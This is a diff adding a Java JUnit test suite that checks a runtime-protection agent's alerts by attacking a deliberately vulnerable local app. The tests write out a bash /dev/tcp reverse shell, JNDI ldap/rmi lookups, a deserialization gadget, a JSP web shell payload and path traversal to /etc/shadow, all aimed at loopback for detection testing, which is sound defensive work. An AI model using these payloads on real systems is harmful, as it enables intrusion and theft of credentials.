@@ -1,0 +1,218 @@
+package dev.vigil.cli;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+
+import java.io.ByteArrayOutputStream;
+import java.io.ObjectOutputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.net.URL;
+import java.net.URLClassLoader;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * The JVM RASP live: `vigil run` attaches to real JVMs (Debian's OpenJDK 17 started before it,
+ * Temurin 25 started after it, one of another user), the vulnerable application is attacked through
+ * HTTP, and each attack must come out as its stock alert with the Java stack and the request.
+ */
+class JvmRaspLiveTest {
+    private static AgentProcess agent;
+    private static VulnerableJvm before17;
+    private static final List<AutoCloseable> open = new ArrayList<>();
+    /** The test's own JVMs (surefire, Maven) are never the RASP's business here. */
+    static final String[] EXCLUDE_BUILD = {"--rasp-exclude", "*surefire*", "--rasp-exclude", "org.codehaus.plexus.classworlds.launcher.Launcher"};
+
+    @BeforeAll
+    static void start() throws Exception {
+        AgentProcess.requireRoot();
+        before17 = VulnerableJvm.start(VulnerableJvm.JAVA_17, null);
+        open.add(before17);
+        agent = AgentProcess.start(args());
+        before17.awaitState(j -> j.path("status").asText().equals("attached") && j.path("connected").asBoolean(), "attached");
+    }
+
+    static String[] args(String... more) {
+        List<String> a = new ArrayList<>(List.of("--rasp=on", "--no-store", "--no-console", "--fold", "0"));
+        a.addAll(List.of(EXCLUDE_BUILD));
+        a.addAll(List.of(more));
+        return a.toArray(String[]::new);
+    }
+
+    @AfterAll
+    static void stop() throws Exception {
+        if (agent != null) {
+            agent.close();
+        }
+        for (AutoCloseable c : open.reversed()) {
+            c.close();
+        }
+    }
+
+    private static boolean stackHas(JsonNode event, String frame) {
+        for (JsonNode f : event.path("jvm_stack")) {
+            if (f.asText().startsWith(frame)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    private static JsonNode event(JsonNode alert) {
+        return alert.path("events").path(0);
+    }
+
+    @Test
+    void attachesWithoutRestartAndListsTheJvm() throws Exception {
+        JsonNode s = before17.awaitState(j -> j.path("hooks").size() > 0, "reported its hooks");
+        assertTrue(s.path("version").asText().startsWith("17"), s.toString());
+        assertEquals("dev.vigil.testapp.VulnerableApp", s.path("main").asText());
+        assertTrue(s.path("hooks").toString().contains("java.lang.ProcessImpl.start"), s.toString());
+        Process list = new ProcessBuilder(withArgs(AgentProcess.javaCommand(), "rasp")).redirectErrorStream(true).start();
+        String out = new String(list.getInputStream().readAllBytes());
+        assertTrue(list.waitFor(30, TimeUnit.SECONDS));
+        assertTrue(out.lines().anyMatch(l -> l.startsWith(before17.pid() + " ") && l.contains("attached") && l.contains("VulnerableApp")), out);
+    }
+
+    private static List<String> withArgs(List<String> cmd, String... args) {
+        List<String> out = new ArrayList<>(cmd);
+        out.addAll(List.of(args));
+        return out;
+    }
+
+    @Test
+    void commandInjectionNamesTheRequestAndTheHandler() throws Exception {
+        before17.get("/exec?cmd=" + VulnerableJvm.encode("echo vigil-rasp-injection"));
+        JsonNode a = agent.await("Java command started while serving a request",
+                x -> event(x).path("jvm_args").toString().contains("vigil-rasp-injection"));
+        JsonNode e = event(a);
+        assertEquals("GET", e.path("http_method").asText());
+        assertTrue(e.path("http_url").asText().startsWith("/exec?cmd="), e.toString());
+        assertTrue(e.path("http_remote").asText().startsWith("127.0.0.1:"), e.toString());
+        assertTrue(stackHas(e, "dev.vigil.testapp.VulnerableApp.serve"), e.toString());
+        assertEquals(before17.pid(), e.path("pid").asLong());
+    }
+
+    @Test
+    void reverseShellFromAHandlerCarriesItsJavaStack() throws Exception {
+        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            String shell = "exec bash -c 'exec sh -i <>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + " >&0 2>&1'";
+            Thread.ofVirtual().start(() -> {
+                try {
+                    before17.get("/exec?cmd=" + VulnerableJvm.encode(shell));
+                } catch (Exception ignored) {
+                    // the request ends when the shell does
+                }
+            });
+            try (Socket s = listener.accept()) {
+                s.getOutputStream().write("exit\n".getBytes());
+                JsonNode a = agent.await("Reverse shell", x -> event(x).path("jvm_pid").asLong() == before17.pid());
+                JsonNode e = event(a);
+                assertEquals("execve", e.path("event").asText());
+                assertTrue(stackHas(e, "dev.vigil.testapp.VulnerableApp.serve"), "the kernel's alert names the handler: " + e);
+                assertTrue(e.path("http_url").asText().startsWith("/exec?cmd="), e.toString());
+            }
+        }
+    }
+
+    @Test
+    void jndiLookupOfARemoteUrlEvenWhenItFails() throws Exception {
+        String answer = before17.get("/jndi?name=" + VulnerableJvm.encode("ldap://127.0.0.1:1/vigil-log4shell"));
+        assertTrue(answer.contains("NamingException") || answer.contains("CommunicationException"), answer);
+        JsonNode a = agent.await("JNDI lookup of a remote URL", x -> event(x).path("jvm_target").asText().contains("vigil-log4shell"));
+        assertTrue(event(a).path("jvm_stack_marks").toString().contains("jndi"), a.toString());
+        before17.get("/jndi?name=" + VulnerableJvm.encode("rmi://127.0.0.1:1/vigil-rmi"));
+        agent.await("JNDI lookup of a remote URL", x -> event(x).path("jvm_target").asText().contains("vigil-rmi"));
+    }
+
+    @Test
+    void gadgetStartingAProcessInsideReadObject() throws Exception {
+        byte[] stream;
+        try (URLClassLoader app = new URLClassLoader(new URL[] {VulnerableJvm.classes().toUri().toURL()}, null)) {
+            Object gadget = app.loadClass("dev.vigil.testapp.Gadget").getConstructor(String.class).newInstance("echo vigil-gadget");
+            ByteArrayOutputStream b = new ByteArrayOutputStream();
+            try (ObjectOutputStream out = new ObjectOutputStream(b)) {
+                out.writeObject(gadget);
+            }
+            stream = b.toByteArray();
+        }
+        before17.post("/deserialize", stream);
+        JsonNode a = agent.await("Java command started by an exploit chain", x -> event(x).path("jvm_args").toString().contains("vigil-gadget"));
+        assertTrue(event(a).path("jvm_stack_marks").toString().contains("deserialization"), a.toString());
+        assertTrue(stackHas(event(a), "dev.vigil.testapp.Gadget.readObject"), a.toString());
+    }
+
+    @Test
+    void classDefinedFromBytesThatStartsAProcess() throws Exception {
+        before17.get("/define?cmd=" + VulnerableJvm.encode("echo vigil-memory-class"));
+        JsonNode a = agent.await("In-memory Java class acting", x -> event(x).path("jvm_args").toString().contains("vigil-memory-class"));
+        assertTrue(event(a).path("jvm_memory_classes").toString().contains("dev.vigil.testapp.Payloads$Shell"), a.toString());
+    }
+
+    @Test
+    void nativeLibraryFromTmp() throws Exception {
+        Path dir = Files.createTempDirectory("vigil-rasp-native");
+        Path lib = dir.resolve("libvigil-test.so");
+        try {
+            Files.copy(Path.of("/lib/x86_64-linux-gnu/libz.so.1"), lib);
+            Files.setPosixFilePermissions(dir, java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
+            before17.get("/load?lib=" + VulnerableJvm.encode(lib.toString()));
+            agent.await("Java native library loaded from a writable directory", x -> event(x).path("jvm_target").asText().equals(lib.toString()));
+        } finally {
+            Files.deleteIfExists(lib);
+            Files.deleteIfExists(dir);
+        }
+    }
+
+    @Test
+    void webShellDropAndTraversalButNotOrdinaryFiles() throws Exception {
+        before17.get("/read?file=index.html");
+        before17.post("/upload?name=notes.txt", "ordinary".getBytes());
+        before17.post("/upload?name=vigil-shell.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>".getBytes());
+        JsonNode drop = agent.await("Web shell written by a Java process", x -> event(x).path("jvm_target").asText().endsWith("/vigil-shell.jsp"));
+        assertTrue(event(drop).path("http_url").asText().startsWith("/upload"), drop.toString());
+        before17.get("/read?file=" + VulnerableJvm.encode("../../../../../../etc/shadow"));
+        agent.await("Path traversal in a Java file access", x -> event(x).path("jvm_target").asText().equals("/etc/shadow"));
+        agent.await("Secret file read by a Java request", x -> event(x).path("jvm_target").asText().equals("/etc/shadow"));
+        // the ordinary read and write came before the marks above on the same thread of the same JVM: had they been reported, they would be here
+        assertFalse(agent.alerts.stream().anyMatch(x -> event(x).path("jvm_target").asText().endsWith("index.html")
+                || event(x).path("jvm_target").asText().endsWith("notes.txt")), agent.alerts.toString());
+    }
+
+    @Test
+    void jvmStartedLaterAndJvmOfAnotherUser() throws Exception {
+        try (VulnerableJvm later25 = VulnerableJvm.start(VulnerableJvm.JAVA_25, null);
+             VulnerableJvm nobody17 = VulnerableJvm.start(VulnerableJvm.JAVA_17, "65534")) {
+            JsonNode s25 = later25.awaitState(j -> j.path("status").asText().equals("attached") && j.path("connected").asBoolean(), "attached");
+            assertTrue(s25.path("version").asText().startsWith("25"), s25.toString());
+            JsonNode sNobody = nobody17.awaitState(j -> j.path("status").asText().equals("attached") && j.path("connected").asBoolean(), "attached");
+            assertEquals(65534, sNobody.path("uid").asInt());
+            later25.get("/exec?cmd=" + VulnerableJvm.encode("echo vigil-rasp-25"));
+            agent.await("Java command started while serving a request", x -> event(x).path("jvm_args").toString().contains("vigil-rasp-25")
+                    && event(x).path("jvm_version").asText().startsWith("25"));
+            nobody17.get("/jndi?name=" + VulnerableJvm.encode("ldap://127.0.0.1:1/vigil-nobody"));
+            JsonNode a = agent.await("JNDI lookup of a remote URL", x -> event(x).path("jvm_target").asText().contains("vigil-nobody"));
+            assertEquals("nobody", event(a).path("username").asText());
+        }
+    }
+
+    @Test
+    void aJvmThatRefusesAttachIsReportedWithTheReason() throws Exception {
+        try (VulnerableJvm closed = VulnerableJvm.start(VulnerableJvm.JAVA_17, null, "-XX:+DisableAttachMechanism")) {
+            JsonNode s = closed.awaitState(j -> j.path("status").asText().equals("failed"), "was reported failed");
+            assertTrue(s.path("reason").asText().contains("DisableAttachMechanism"), s.toString());
+            assertEquals("hello", closed.get("/"), "it serves on, untouched");
+        }
+    }
+}
